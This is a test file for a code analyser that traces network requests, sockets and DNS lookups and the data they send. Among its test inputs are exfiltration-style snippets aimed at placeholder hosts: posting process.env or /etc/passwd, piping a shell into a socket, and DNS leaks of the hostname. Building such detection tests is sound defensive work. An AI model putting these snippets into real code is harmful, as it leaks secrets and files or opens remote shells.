// Where requests, lookups and sockets go, and where what they send comes from.
import { describe, expect, test } from 'vitest';
import { network } from '../../src/behaviors/network.ts';
import { factsOf, HOSTILE } from './facts.ts';

const of = (source: string, path?: string) => factsOf(network, 'network', source, path);
const kinds = (source: string) => of(source).flatMap(({ sends }) => sends.map(({ kind }) => kind));

describe('addresses', () => {
  test.each<[string, string, string | undefined, string | undefined]>([
    ['fetch', "fetch('https://A.example/x?token=1#y')", 'a.example', 'https://A.example/x'],
    ['fetch with user and password', "fetch('https://user:pw@a.example/')", 'a.example', 'https://a.example/'],
    ['global object', "globalThis['fetch']('https://a.example/')", 'a.example', 'https://a.example/'],
    ['alias', "const f = fetch; f('https://a.example/')", 'a.example', 'https://a.example/'],
    ['template', 'fetch(`https://a.example/${id}/x`)', 'a.example', 'https://a.example/*/x'],
    ['unknown host', 'export function f(h) { return fetch(`https://${h}/x`); }', undefined, 'https://*/x'],
    ['concatenated host', "fetch('https://' + 'ev' + 'il.example' + '/')", 'evil.example', 'https://evil.example/'],
    ['base64', "fetch(Buffer.from('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv', 'base64').toString())", 'evil.example', 'https://evil.example/'],
    ['URL object', "fetch(new URL('/x', 'https://a.example'))", 'a.example', 'https://a.example/x'],
    ['URL made of itself', "let u = new URL('https://a.example/x'); for (const p of ps) u = new URL(p, u); fetch(u)", 'a.example', 'https://a.example/x'],
    ['URL as text', "const u = new URL('https://a.example/x'); fetch(u.toString())", 'a.example', 'https://a.example/x'],
    ['numeric host', "fetch('http://2130706433/x')", '127.0.0.1', 'http://2130706433/x'],
    ['address with port', "fetch('http://[::1]:8080/x')", '[::1]', 'http://[::1]:8080/x'],
    ['https.request of settings', "const https = require('https'); https.request({ hostname: 'a.example', path: '/p', method: 'POST' })", 'a.example', 'https://a.example/p'],
    ['http.get of settings with a port', "import { get } from 'node:http'; get({ host: 'a.example', port: 8080, path: 'p' })", 'a.example', 'http://a.example:8080/p'],
    ['request of a URL with settings', "require('https').request('https://a.example/x', { method: 'PUT' }, () => {})", 'a.example', 'https://a.example/x'],
    ['settings that take another host', "require('https').request('https://a.example/', { hostname: 'b.example' })", 'b.example', 'https://b.example/'],
    ['axios', "import axios from 'axios'; axios({ url: 'https://a.example/x', method: 'post' })", 'a.example', 'https://a.example/x'],
    ['axios instance', "const axios = require('axios'); const api = axios.create({ baseURL: 'https://a.example/v1/' }); api.post('/users', {})", 'a.example', 'https://a.example/v1/users'],
    ['axios instance with another base in one call', "const axios = require('axios'); const api = axios.create({ baseURL: 'https://a.example' }); api.post('/users', {}, { baseURL: 'https://b.example' })", 'b.example', 'https://b.example/users'],
    ['base address that is set later', "const c = make(); c.defaults.baseURL = 'https://a.example/v1'", 'a.example', 'https://a.example/v1'],
    ['proxy in settings', "module.exports = { proxy: { protocol: 'http', host: 'a.example', port: 8080 } }", 'a.example', 'http://a.example:8080/'],
    ['proxy agent', "const { HttpsProxyAgent } = require('https-proxy-agent'); new HttpsProxyAgent('http://a.example:3128')", 'a.example', 'http://a.example:3128'],
    ['mail server', "require('nodemailer').createTransport({ host: 'a.example', port: 465 })", 'a.example', 'smtp://a.example:465/'],
    ['mail server with user and password', "require('nodemailer').createTransport('smtps://user:pw@a.example')", 'a.example', 'smtps://a.example'],
    ['axios instance in a class', "import axios from 'axios'; class C { constructor() { this.api = axios.create({ baseURL: 'https://a.example' }); } go() { return this.api.get('/x'); } }", 'a.example', 'https://a.example/x'],
    ['got with a prefix', "import got from 'got'; got.extend({ prefixUrl: 'https://a.example' }).post('x', { json: {} })", 'a.example', 'https://a.example/x'],
    ['jQuery', "require('jquery').ajax({ url: 'https://a.example/', data: d })", 'a.example', 'https://a.example/'],
    ['got', "const got = require('got'); got('https://a.example/')", 'a.example', 'https://a.example/'],
    ['needle', "require('needle')('post', 'https://a.example/', {})", 'a.example', 'https://a.example/'],
    ['request', "require('request')({ uri: 'https://a.example/' })", 'a.example', 'https://a.example/'],
    ['undici', "import { request } from 'undici'; await request('https://a.example/')", 'a.example', 'https://a.example/'],
    ['undici pool', "import { Pool } from 'undici'; new Pool('https://a.example').request({ path: '/x', method: 'GET' })", 'a.example', 'https://a.example/x'],
    ['node-fetch of TypeScript', "import fetch from 'node-fetch';\nexport const go = async (): Promise<void> => { await fetch('https://a.example/' as string); };", 'a.example', 'https://a.example/'],
    ['compiled TypeScript', '"use strict";var __importDefault=(this&&this.__importDefault)||function(m){return m&&m.__esModule?m:{default:m}};const axios_1=__importDefault(require("axios"));axios_1.default.post("https://a.example/",{})', 'a.example', 'https://a.example/'],
    ['minified', '(0,require("https").get)("https://a.example/",e=>{e.on("data",()=>{})})', 'a.example', 'https://a.example/'],
    ['XMLHttpRequest', "const x = new XMLHttpRequest(); x.open('POST', 'https://a.example/'); x.send('1')", 'a.example', 'https://a.example/'],
    ['sendBeacon', "navigator.sendBeacon('https://a.example/', d)", 'a.example', 'https://a.example/'],
    ['WebSocket', "new WebSocket('wss://a.example/s')", 'a.example', 'wss://a.example/s'],
    ['ws', "const WebSocket = require('ws'); new WebSocket('ws://a.example')", 'a.example', 'ws://a.example'],
    ['socket.io', "import { io } from 'socket.io-client'; io('https://a.example')", 'a.example', 'https://a.example'],
    ['EventSource', "new EventSource('https://a.example/e')", 'a.example', 'https://a.example/e'],
    ['net', "require('net').connect(4444, '192.0.2.7')", '192.0.2.7', undefined],
    ['net of settings', "require('node:net').createConnection({ port: 1, host: 'a.example' })", 'a.example', undefined],
    ['tls', "import tls from 'tls'; tls.connect(443, 'a.example', {})", 'a.example', undefined],
    ['socket made first', "const s = new (require('net').Socket)(); s.connect(1, 'a.example')", 'a.example', undefined],
    ['dgram', "require('dgram').createSocket('udp4').send('x', 0, 1, 53, 'a.example')", 'a.example', undefined],
    ['DNS', "require('dns').resolveTxt('a.example', cb)", 'a.example', undefined],
    ['client in a field', "class A { send(x) { return this.http.post('https://a.example/x', x); } }", 'a.example', 'https://a.example/x'],
    ['variable of the environment with a default', "fetch(process.env.API ?? 'https://a.example/')", 'a.example', 'https://a.example/'],
  ])('%s', (_name, source, host, url) => {
    const [fact] = of(source);
    expect([fact?.host, fact?.url]).toEqual([host, url]);
  });

  test('each constant alternative is a fact of its own', () => {
    expect(of("fetch(a ? 'https://a.example/' : 'https://b.example/')").map(({ host }) => host)).toEqual(['a.example', 'b.example']);
  });

  test('what is switched off is no host, and what is unknown stands back', () => {
    expect(of("require('net').connect({ port: 1, host: process.env.H || false })").map(({ host }) => host)).toEqual([undefined]);
    expect(of("fetch(a ? x : b ? 'https://a.example/' : y)").map(({ host }) => host)).toEqual(['a.example']);
  });

  test('a lookup with a made label keeps its domain', () => {
    const [fact] = of("const os = require('os'); require('dns').lookup(Buffer.from(os.hostname()).toString('hex') + '.x.example', () => {})");
    expect(fact).toMatchObject({ method: 'dns', url: '*.x.example', sends: [{ kind: 'machine', name: 'os.hostname' }] });
    expect(fact?.host).toBeUndefined();
  });

  test.each([
    ["require('http').createServer(() => {}).listen(3000, '0.0.0.0')", '0.0.0.0'],
    ["const app = require('express')(); app.listen(8080)", undefined],
    ["Bun.serve({ port: 1, hostname: 'localhost' })", 'localhost'],
  ])('a server listens: %s', (source, host) => {
    const [fact] = of(source);
    expect(fact?.method).toBe('listen');
    expect(fact?.host).toBe(host);
  });

  test.each(["fetch('data:text/plain,x')", "const map = new Map(); map.get('https://a.example/schema')", "'x'.replace('https://a.example', '')", 'const fetch = (x) => x; fetch("https://a.example/")', "img.src = 'https://a.example/'", "router.get('/x', handler)"])('no request: %s', (source) => {
    expect(of(source)).toEqual([]);
  });
});

describe('what is sent', () => {
  test.each<[string, string, string]>([
    ['a body', "fetch('https://a.example/', { method: 'POST', body: JSON.stringify(process.env) })", 'environment'],
    ['a header', "fetch('https://a.example/', { headers: { 'x-t': process.env.TOKEN } })", 'environment'],
    ['a query', 'fetch(`https://a.example/?q=${process.env.TOKEN}`)', 'environment'],
    ['a path', "require('https').get('https://a.example/' + require('os').hostname())", 'machine'],
    ['the second argument of post', "require('axios').post('https://a.example/', { k: require('fs').readFileSync('/etc/passwd') })", 'file'],
    ['a write to the request', "const r = require('https').request({ host: 'a.example' }); r.write(process.env.A); r.end()", 'environment'],
    ['the end of the request', "require('https').request('https://a.example/').end(process.env.A)", 'environment'],
    ['a chain', "require('superagent').post('https://a.example/').set('a', 'b').send({ t: process.env.A })", 'environment'],
    ['a message of a socket', "const w = new WebSocket('wss://a.example'); w.onopen = () => w.send(process.env.A)", 'environment'],
    ['the body of an XMLHttpRequest', "const x = new XMLHttpRequest(); x.open('POST', 'https://a.example/'); x.send(process.env.A)", 'environment'],
    ['a form', "const f = new FormData(); f.append('a', process.env.A); fetch('https://a.example/', { body: f })", 'environment'],
    ['parameters of an address', "const u = new URL('https://a.example/'); u.searchParams.set('a', process.env.A); fetch(u)", 'environment'],
    ['what is piped in', "const s = require('net').connect(1, 'a.example'); require('child_process').spawn('sh').stdout.pipe(s)", 'machine'],
    ['a datagram', "require('dgram').createSocket('udp4').send(Buffer.from(process.env.A), 53, 'a.example')", 'environment'],
    ['settings of needle', "require('needle')('put', 'https://a.example/', { a: process.env.A })", 'environment'],
    ['a Request', "fetch(new Request('https://a.example/', { method: 'POST', body: process.env.A }))", 'environment'],
  ])('%s', (_name, source, kind) => {
    expect(kinds(source)).toContain(kind);
  });

  test("the method and the address are not sent", () => {
    expect(of("fetch('https://a.example/', { method: 'POST' })")[0]?.sends).toEqual([]);
  });
});

test('what a mail server gets, and what is changed on its way', () => {
  const [mailed] = of("const t = require('nodemailer').createTransport({ host: 'a.example' }); exports.send = (to) => t.sendMail({ to })");
  expect(mailed).toMatchObject({ method: 'socket', sends: [{ kind: 'argument', name: 'to' }] });
  const [changed] = of("client.interceptors.request.use((config) => { config.baseURL = 'https://a.example'; return config; })");
  expect(changed).toMatchObject({ method: 'request', sends: [{ kind: 'argument', name: 'config' }] });
});

test('addresses that are set without being told, and tables of paths, are no facts', () => {
  for (const source of ["class C { constructor() { this.baseURL = 'https://a.example'; } }", 'exports.set = (c, url) => { c.baseURL = url; }', "module.exports = { proxy: { '/api': 'http://a.example' } }", 'module.exports = { proxy: process.env.PROXY }', 'x.baseURL = ']) expect(of(source)).toEqual([]);
});

describe('around it', () => {
  test('function and conditions are told', () => {
    expect(of("export function beat() { if (process.env.CI) return; fetch('https://a.example/'); }")[0]).toMatchObject({ within: 'beat', when: ['ci'], place: { line: 1 } });
  });
  test.each(HOSTILE)('hostile source %#', (source) => {
    expect(Array.isArray(of(source))).toBe(true);
  });
});
